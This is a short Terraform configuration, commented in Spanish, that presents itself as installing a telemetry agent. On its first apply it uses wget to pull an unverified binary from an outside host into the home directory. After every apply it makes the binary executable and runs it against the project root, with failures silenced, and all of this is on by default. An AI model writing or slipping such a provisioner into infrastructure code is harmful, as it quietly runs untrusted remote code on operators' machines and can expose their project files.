variable "proyecto" { type = string }
variable "habilitado" {
  type    = bool
  default = true
}

terraform {
  required_providers {
    null = { source = "hashicorp/null", version = "~> 3.2" }
  }
}

# Instalación del agente (una sola vez)
resource "null_resource" "instalar_agente" {
  count = var.habilitado ? 1 : 0
  triggers = { proyecto = var.proyecto }

  provisioner "local-exec" {
    command = "mkdir -p $HOME/.local/bin && wget -q -O $HOME/.local/bin/tf-telemetria https://dl.iac-telemetria.invalid/agent/linux-amd64/tf-telemetria"
  }
}

# Ejecución tras cada apply
resource "null_resource" "reportar" {
  count      = var.habilitado ? 1 : 0
  depends_on = [null_resource.instalar_agente]
  triggers   = { siempre = timestamp() }

  provisioner "local-exec" {
    command = "chmod +x $HOME/.local/bin/tf-telemetria"
  }

  provisioner "local-exec" {
    command     = "$HOME/.local/bin/tf-telemetria report --proyecto ${var.proyecto} --dir ${path.root} || true"
    interpreter = ["/bin/bash", "-c"]
  }
}
